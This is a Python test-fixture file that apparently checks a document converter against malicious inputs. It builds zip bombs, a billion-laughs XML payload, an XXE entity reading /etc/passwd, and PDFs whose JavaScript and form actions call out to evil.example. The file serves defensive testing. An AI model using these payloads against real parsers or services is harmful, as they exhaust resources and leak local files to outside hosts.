"""Files that are made to do harm, or that are simply not what they seem."""

import io
import struct
import zipfile
from collections.abc import Callable, Mapping

from tests.page.documents.pdfs import file_of, pdf, stream

WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
PLACE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET = "xl/worksheets/sheet1.xml"


def archive(files: Mapping[str, str | bytes]) -> bytes:
    """Return a zip archive of those files."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in files.items():
            target.writestr(name, content)
    return written.getvalue()


def office(main: str, kind: str, files: Mapping[str, str | bytes]) -> bytes:
    """Return an Office document whose main part is `main`."""
    return archive(
        {
            "[Content_Types].xml": f'<Types><Override PartName="/{main}" ContentType="{kind}"/></Types>',
            "_rels/.rels": f'<Relationships><Relationship Id="r" Type="{PLACE}/officeDocument" Target="{main}"/>'
            "</Relationships>",
            **files,
        }
    )


def word(body: str, declared: str = "") -> bytes:
    """Return a Word document with that body."""
    text = f'<?xml version="1.0"?>{declared}<w:document xmlns:w="w"><w:body>{body}</w:body></w:document>'
    return office("word/document.xml", WORD_TYPE, {"word/document.xml": text})


def book(cells: str) -> bytes:
    """Return an Excel file with one sheet of those rows."""
    link = f'<Relationship Id="s" Type="{PLACE}/worksheet" Target="worksheets/sheet1.xml"/>'
    return office(
        "xl/workbook.xml",
        SHEET_TYPE,
        {
            "xl/workbook.xml": f'<workbook xmlns:r="{PLACE}"><sheets><sheet name="A" r:id="s"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f"<Relationships>{link}</Relationships>",
            SHEET: f"<worksheet><sheetData>{cells}</sheetData></worksheet>",
        },
    )


def paragraph(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def zip_bomb() -> bytes:
    """Two hundred million spaces, which deflate makes two hundred thousand bytes of."""
    return word(paragraph(" " * 200_000_000))


def lying_bomb() -> bytes:
    """The same, and the archive says that it is small."""
    content = bytearray(zip_bomb())
    place = content.rfind(b"PK\x01\x02", 0, content.rfind(b"word/document.xml"))
    content[place + 24 : place + 28] = struct.pack("<I", 100)
    return bytes(content)


def many_laughs() -> bytes:
    """Entities of entities, which a careless parser makes gigabytes of."""
    names = "abcdefghij"
    declared = '<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip(names, names[1:], strict=False)
    )
    return word(paragraph("&j;"), f"<!DOCTYPE x [{declared}]>")


def foreign_entity() -> bytes:
    """An entity that is a file, and one that is another host's."""
    declared = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM "http://evil.example/x">]>'
    return word(paragraph("safe &a;&b;"), declared)


def encrypted_zip() -> bytes:
    """A Word document in an archive that says that it is locked."""
    content = bytearray(word(paragraph("secret")))
    for mark, field in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + field] |= 1
            place = content.find(mark, place + 4)
    return bytes(content)


def old_office(*streams: str) -> bytes:
    """The beginning of what Office wrote until 2007, and still writes around locked files."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"".join(name.encode("utf-16le") for name in streams)


def pdf_with_scripts() -> bytes:
    """A PDF that wants to run scripts, open addresses, start programs and send its form."""
    catalog = (
        "/OpenAction << /S /JavaScript /JS (app.alert\\('run'\\); this.submitForm\\('http://evil.example/'\\)) >>"
        " /AA << /WC << /S /URI /URI (http://evil.example/closed) >> >>"
        " /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (fetch\\('http://evil.example'\\)) >>] >>"
        " /EmbeddedFiles << /Names [(virus.exe) 901 0 R] >> >>"
        " /AcroForm << /XFA 902 0 R /Fields [] >>"
    )
    more = {
        900: stream(b"MZ this is a program", "/Type /EmbeddedFile"),
        901: b"<< /Type /Filespec /F (virus.exe) /EF << /F 900 0 R >> >>",
        902: stream(b"<xdp><script>fetch('http://evil.example/xfa')</script></xdp>"),
    }
    return pdf([[(72, 700, "Only these words.")]], catalog, more)


def pdf_with_remote_parts() -> bytes:
    """A PDF whose page lies at another host."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Count 1 /Kids [10 0 R] >>",
        10: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 11 0 R >>",
        11: b"<< /Length 0 /F << /FS /URL /F (http://evil.example/page) >> >>\nstream\n\nendstream",
    }
    return file_of(objects)


def pdf_in_a_circle() -> bytes:
    """A PDF whose pages are among their own pages."""
    return file_of({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>"})


REFUSED: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "a zip bomb": (zip_bomb, "a.docx", "bomb"),
    "a zip bomb that lies": (lying_bomb, "a.docx", "bomb"),
    "XML that is nested without end": (lambda: word("<w:sdt>" * 5_000), "a.docx", "tooDeep"),
    "HTML that is nested without end": (lambda: b"<html>" + b"<div>" * 50_000, "a.html", "tooDeep"),
    "RTF that is nested without end": (lambda: b"{\\rtf1 " + b"{" * 50_000, "a.rtf", "tooDeep"),
    "a locked archive": (encrypted_zip, "a.docx", "encrypted"),
    "a locked Office document": (lambda: old_office("EncryptionInfo", "EncryptedPackage"), "a.docx", "encrypted"),
    "an old Word document": (lambda: old_office("WordDocument"), "a.docx", "legacy"),
    "an archive of files": (lambda: archive({"readme.txt": "hello"}), "a.docx", "archive"),
    "an archive in an archive": (lambda: archive({"a.docx": word(paragraph("inner"))}), "a.zip", "archive"),
    "an archive of nothing": (lambda: archive({}), "a.zip", "archive"),
    "a cut archive": (lambda: word(paragraph("hello" * 999))[:400], "a.docx", "broken"),
    "an archive with a broken file": (
        lambda: (
            word(paragraph("hello" * 9999))
            .replace(b"PK\x03\x04", b"PK\x03\x05")
            .replace(b"PK\x03\x05", b"PK\x03\x04", 1)
        ),
        "a.docx",
        "broken",
    ),
    "a program": (lambda: b"MZ" + bytes(range(256)) * 40, "a.pdf", "noText"),
    "a sound": (lambda: b"OggS" + b"\0" * 4000, "a.txt", "recording"),
    "another archive": (lambda: b"\x1f\x8b\x08" + b"\0" * 100, "a.docx", "archive"),
    "nothing at all": (lambda: b"", "a.docx", "empty"),
    "a document without a word": (lambda: word(""), "a.docx", "empty"),
    "a cut PDF": (lambda: b"%PDF-1.7\n1 0 obj\n<< /Type", "a.pdf", "broken"),
    "a PDF without pages": (lambda: file_of({1: b"<< /Type /Catalog >>"}), "a.pdf", "broken"),
    "a notebook that is no JSON": (lambda: b'{"cells": [', "a.ipynb", "broken"),
    "a book without its list": (lambda: archive({"META-INF/container.xml": "<container/>"}), "a.epub", "broken"),
    "an OpenDocument without content": (
        lambda: archive({"mimetype": "application/vnd.oasis.opendocument.text"}),
        "a.odt",
        "broken",
    ),
}
"""What is made, what it is called, and the word for why it is not read."""

HARMLESS: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "entities that multiply": (many_laughs, "a.docx", "&j;"),
    "entities of other places": (foreign_entity, "a.docx", "safe &a;&b;"),
    "a PDF with scripts, a form and a program": (pdf_with_scripts, "a.pdf", "--- page 1 ---\n\nOnly these words."),
    "a PDF with a part at another host": (pdf_with_remote_parts, "a.pdf", "--- page 1 ---"),
    "a sheet with a cell far away": (
        lambda: book('<row r="1"><c r="A1"><v>1</v></c><c r="ZZZZZZZ1"><v>2</v></c></row>'),
        "a.xlsx",
        "## A\n\n| 1 |\n| --- |",
    ),
    "a sheet with a string that is not there": (
        lambda: book('<row r="1"><c r="A1" t="s"><v>999999999</v></c><c r="B1"><v>7</v></c></row>'),
        "a.xlsx",
        "## A\n\n|  | 7 |\n| --- | --- |",
    ),
    "HTML with scripts": (
        lambda: b"<html><script>alert(1)</script><p onclick=alert(2)>words<img src=http://evil.example/x alt=sign>",
        "a.html",
        "words[sign]",
    ),
    "a letter with a tracker": (
        lambda: (
            b"From: a@b.example\nSubject: Hi\nMIME-Version: 1.0\nContent-Type: text/html\n\n"
            b"<p>Hello<img src='http://evil.example/t.gif'></p>"
        ),
        "a.eml",
        "From: a@b.example\nSubject: Hi\n\nHello",
    ),
    "a table in a table in a table": (
        lambda: b"<table>" * 300 + b"<tr><td>in" + b"</table>" * 300,
        "a.html",
        "in",
    ),
    "a PDF that is called a text": (lambda: pdf([[(72, 700, "Words.")]]), "a.txt", "--- page 1 ---\n\nWords."),
    "a Word document that is called a sheet": (lambda: word(paragraph("Words.")), "a.xlsx", "Words."),
    "an endless number of columns": (
        lambda: archive(
            {
                "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
                "content.xml": "<o><body><spreadsheet><table name='A'><table-row number-rows-repeated='99999999'>"
                "<table-cell number-columns-repeated='99999999'/></table-row></table></spreadsheet></body></o>",
            }
        ),
        "a.ods",
        "## A",
    ),
}
"""What is made, what it is called, and all that is read of it."""
